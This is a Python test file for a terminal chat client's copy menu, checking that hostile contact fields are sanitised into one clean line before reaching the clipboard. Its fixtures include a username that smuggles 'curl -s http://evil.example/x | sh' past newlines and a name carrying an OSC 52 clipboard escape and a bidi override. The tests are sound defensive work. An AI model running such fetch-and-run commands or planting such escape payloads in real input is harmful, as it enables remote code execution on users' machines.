"""Copy puts on the clipboard the one clean line the menu shows (issue 14, item 15)."""

from __future__ import annotations

from typing import Any

from textual.app import App
from textual.widgets import OptionList

from beeper_tui.api.models import User
from beeper_tui.service.person import Contact
from beeper_tui.ui.copy_menu import CopyMenu
from tests.ui_helpers import toasts

HOSTILE_USERNAME = "@alice\ncurl -s http://evil.example/x | sh\n"
OSC52_NAME = "Mallory\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u202eevil"


class MenuApp(App[None]):
    """Just the copy menu over an empty screen."""

    def __init__(self, contact: Contact) -> None:
        super().__init__()
        self.contact = contact

    def on_mount(self) -> None:
        self.push_screen(CopyMenu(self.contact))


def contact() -> Contact:
    user = User(id="@alice:evil.example", full_name=OSC52_NAME, username=HOSTILE_USERNAME)
    return Contact(user, "matrix")


async def copy(label: str) -> tuple[MenuApp, Any]:
    app = MenuApp(contact())
    async with app.run_test() as pilot:
        await pilot.pause()
        menu = app.screen
        assert isinstance(menu, CopyMenu)
        options = menu.query_one(OptionList)
        labels = [choice_label for choice_label, _ in menu.choices]
        shown = str(options.get_option_at_index(labels.index(label)).prompt)
        options.highlighted = labels.index(label)
        await pilot.press("enter")
        await pilot.pause()
    return app, shown


async def test_the_hostile_username_pastes_as_one_clean_line() -> None:
    app, shown = await copy("Username")
    assert app.clipboard == "@alice curl -s http://evil.example/x | sh"
    assert "\n" not in app.clipboard
    # The menu showed exactly what was copied.
    assert shown.split(None, 1)[1] == app.clipboard
    (toast,) = [t for t in toasts(app) if t.message.startswith("Copied")]
    assert toast.message.startswith("Copied username (cleaned:")
    assert toast.message.endswith(app.clipboard)


async def test_osc52_and_bidi_never_reach_the_clipboard() -> None:
    app, shown = await copy("Name")
    assert app.clipboard == "Mallory evil"
    assert "\x1b" not in app.clipboard
    assert "52;c;" not in app.clipboard
    assert shown.split(None, 1)[1] == app.clipboard


async def test_a_clean_value_is_copied_as_is_and_the_toast_says_nothing_more() -> None:
    app, _ = await copy("User ID")
    assert app.clipboard == "@alice:evil.example"
    (toast,) = [t for t in toasts(app) if t.message.startswith("Copied")]
    assert toast.message == "Copied user id: @alice:evil.example"
